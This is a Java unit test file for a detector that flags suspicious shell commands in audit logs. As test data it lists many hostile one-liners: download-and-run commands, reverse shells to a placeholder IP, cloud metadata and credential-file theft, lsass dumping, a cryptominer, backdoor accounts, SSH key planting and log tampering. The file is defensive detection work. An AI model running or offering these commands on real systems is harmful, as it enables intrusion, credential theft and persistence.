package dev.cadet.detectors.internal.detect;

import dev.cadet.detectors.testkit.DetectorHarness;
import dev.cadet.detectors.testkit.E;
import dev.cadet.model.Finding;
import dev.cadet.model.Outcome;
import dev.cadet.model.Severity;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static dev.cadet.detectors.testkit.E.t;
import static dev.cadet.detectors.testkit.E.user;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class SuspiciousCommandDetectorTest {

    private final DetectorHarness h = new DetectorHarness(new SuspiciousCommandDetector(CommandPatterns.builtIn()));

    /** One line an intruder would run for each built-in pattern: every pattern must catch its own example. */
    static final Map<String, String> EXAMPLES = new LinkedHashMap<>();

    static {
        EXAMPLES.put("download-pipe-to-shell", "curl -fsSL http://203.0.113.9/x.sh | bash");
        EXAMPLES.put("download-chmod-execute", "wget -q http://198.51.100.3/k -O /tmp/k && chmod +x /tmp/k && /tmp/k");
        EXAMPLES.put("powershell-download-cradle", "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')");
        EXAMPLES.put("certutil-download", "certutil.exe -urlcache -split -f http://x.example/p.exe C:\\p.exe");
        EXAMPLES.put("bitsadmin-download", "bitsadmin /transfer job http://x.example/p.exe C:\\p.exe");
        EXAMPLES.put("base64-decode-to-shell", "echo Y3VybCBldmlsCg== | base64 -d | sh");
        EXAMPLES.put("reverse-shell-dev-tcp", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        EXAMPLES.put("reverse-shell-netcat", "nc -e /bin/sh 203.0.113.9 4444");
        EXAMPLES.put("reverse-shell-socat", "socat tcp:203.0.113.9:4444 exec:'bash -li',pty,stderr");
        EXAMPLES.put("reverse-shell-script", "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444))'");
        EXAMPLES.put("reverse-shell-powershell", "$c=New-Object Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream()");
        EXAMPLES.put("encoded-powershell", "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
        EXAMPLES.put("powershell-hidden-bypass", "powershell -w hidden -ExecutionPolicy Bypass -File c:\\t\\a.ps1");
        EXAMPLES.put("powershell-frombase64", "iex ([System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p)))");
        EXAMPLES.put("imds-aws-credentials", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role");
        EXAMPLES.put("imds-azure-token", "curl -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'");
        EXAMPLES.put("imds-gcp-token", "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token");
        EXAMPLES.put("imds-any", "curl -s http://169.254.169.254/");
        EXAMPLES.put("cloud-credential-files", "cat /root/.aws/credentials");
        EXAMPLES.put("os-credential-dumping", "procdump64.exe -ma lsass.exe lsass.dmp");
        EXAMPLES.put("cryptominer", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbC --donate-level 1");
        EXAMPLES.put("miner-group-tooling", "curl -s http://203.0.113.9/kinsing -o /tmp/kdevtmpfsi");
        EXAMPLES.put("local-user-created", "useradd -m -s /bin/bash support2");
        EXAMPLES.put("privileged-group-added", "usermod -aG sudo support2");
        EXAMPLES.put("ssh-authorized-keys", "echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys");
        EXAMPLES.put("cloud-identity-created", "aws iam create-access-key --user-name backup-svc");
        EXAMPLES.put("security-agent-tampering", "systemctl stop amazon-ssm-agent && systemctl disable auditd");
        EXAMPLES.put("log-tampering", "history -c; rm -rf /var/log/audit");
        EXAMPLES.put("cloud-logging-disabled", "aws cloudtrail stop-logging --name org-trail");
        EXAMPLES.put("shadow-copies-deleted", "vssadmin delete shadows /all /quiet");
        EXAMPLES.put("cron-persistence", "echo '* * * * * root /tmp/k' >> /etc/crontab");
        EXAMPLES.put("tunnel-tooling", "./chisel client 203.0.113.9:8000 R:socks");
    }

    @Test
    void everyBuiltInPatternCatchesItsExampleAndHasASourceAndTechnique() {
        List<CommandPatterns.Entry> entries = CommandPatterns.builtIn().entries();
        assertThat(entries).extracting(CommandPatterns.Entry::id).containsExactlyInAnyOrderElementsOf(EXAMPLES.keySet());
        for (CommandPatterns.Entry e : entries) {
            assertThat(CommandPatterns.builtIn().match(EXAMPLES.get(e.id())))
                    .as(e.id()).extracting(m -> m.entry().id()).contains(e.id());
            assertThat(e.source()).as(e.id()).startsWith("https://attack.mitre.org/");
            assertThat(e.techniques()).as(e.id()).startsWith("T");
        }
    }

    @Test
    void routineAdministrationMatchesNothing() {
        for (String line : List.of("yum -y update", "sudo systemctl restart nginx", "df -h; free -m; uptime",
                "Get-Service W3SVC | Restart-Service", "apt-get install -y curl", "cat /etc/os-release",
                "curl -fsS https://example.com/health", "powershell -File C:\\scripts\\rotate-logs.ps1",
                "tar czf /backup/www.tgz /var/www", "systemctl status amazon-ssm-agent")) {
            assertThat(CommandPatterns.builtIn().match(line)).as(line).isEmpty();
        }
    }

    @Test
    void aDecodedEncodedCommandIsMatchedAndSaidSo() {
        String payload = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/stage2')";
        String b64 = Base64.getEncoder().encodeToString(payload.getBytes(StandardCharsets.UTF_16LE));
        h.push(E.command(user("eve")).at("10:00").document("CustomScriptExtension")
                .lines("powershell.exe -NoProfile -EncodedCommand " + b64)).end();
        Finding f = h.only();
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.summary()).contains("encoded-powershell").contains("powershell-download-cradle")
                .contains("in a decoded -EncodedCommand payload").contains("T1027.010");
    }

    @Test
    void aReverseShellIsCriticalEvenWhenRefused() {
        h.push(E.command(user("eve")).at("10:00").outcome(Outcome.FAILURE).error("AccessDenied")
                .lines("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")).end();
        assertThat(h.only().severity()).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void oneFindingPerPrincipalAndHourEmittedWhenTheWatermarkReachesTheHourEnd() {
        h.push(E.command(user("eve")).at("10:00").lines("useradd x"),
                E.command(user("eve")).at(t("11:00") - 1).lines("cat ~/.aws/credentials"),
                E.command(user("eve")).at("11:00").lines("xmrig -o stratum+tcp://p:1"));
        h.watermark(t("11:00") - 1);
        assertThat(h.findings()).isEmpty();
        h.watermark(t("11:00"));
        assertThat(h.only().evidence()).hasSize(2);
        assertThat(h.only().severity()).isEqualTo(Severity.HIGH);
        h.end();
        assertThat(h.findings()).hasSize(2);
        assertThat(h.findings().get(1).severity()).isEqualTo(Severity.CRITICAL);
        assertThat(h.counter("keysLive")).isZero();
    }

    @Test
    void eventsWithoutCommandTextAreIgnored() {
        h.push(E.command(user("eve")).at("10:00"), E.other(user("eve")).at("10:01")).end();
        assertThat(h.findings()).isEmpty();
        assertThat(h.counter("matched")).isZero();
    }

    @Test
    void aUserPackReplacesSwitchesOffAndAdds() {
        CommandPatterns pack = CommandPatterns.builtIn().with(CommandPatterns.parse("mine.txt", """
                # ours
                imds-any OFF T1552.005 https://example.com/x .
                local-user-created LOW T1136.001 https://example.com/y (?i)\\buseradd\\b
                company-backdoor CRITICAL T1505 https://example.com/z backdoor\\.sh
                """));
        assertThat(pack.entries()).extracting(CommandPatterns.Entry::id).doesNotContain("imds-any")
                .contains("company-backdoor");
        assertThat(pack.match("curl http://169.254.169.254/")).isEmpty();
        assertThat(pack.match("useradd bob")).singleElement()
                .satisfies(m -> assertThat(m.entry().severity()).isEqualTo(Severity.LOW));
        assertThat(pack.match("sh /tmp/backdoor.sh")).extracting(m -> m.entry().id()).containsExactly("company-backdoor");
    }

    @Test
    void badPackLinesNameTheFileLineAndWhatWasExpected() {
        assertThatThrownBy(() -> CommandPatterns.parse("mine.txt", "\n\nx SEVERE T1059 https://e x"))
                .hasMessage("mine.txt line 3: severity must be one of OFF, INFO, LOW, MEDIUM, HIGH, CRITICAL, was 'SEVERE'");
        assertThatThrownBy(() -> CommandPatterns.parse("mine.txt", "x HIGH T1059 https://e (unclosed"))
                .hasMessageStartingWith("mine.txt line 1: regex does not compile: Unclosed group");
        assertThatThrownBy(() -> CommandPatterns.parse("mine.txt", "x HIGH T1059"))
                .hasMessage("mine.txt line 1: expected ID SEVERITY TECHNIQUES SOURCE REGEX, found 3 fields");
        assertThatThrownBy(() -> CommandPatterns.parse("mine.txt", "Bad_Id HIGH T1059 https://e x"))
                .hasMessage("mine.txt line 1: id must be lower-case words joined by '-', was 'Bad_Id'");
        assertThatThrownBy(() -> CommandPatterns.parse("mine.txt", "x HIGH 1059 https://e x"))
                .hasMessage("mine.txt line 1: techniques must be ATT&CK ids such as T1059.004,T1105, was '1059'");
    }

    @Test
    void aHugeLineIsCutNotScannedWhole() {
        String huge = "a".repeat(CommandPatterns.MAX_LINE) + " useradd evil";
        assertThat(CommandPatterns.builtIn().match(huge)).isEmpty();
    }
}
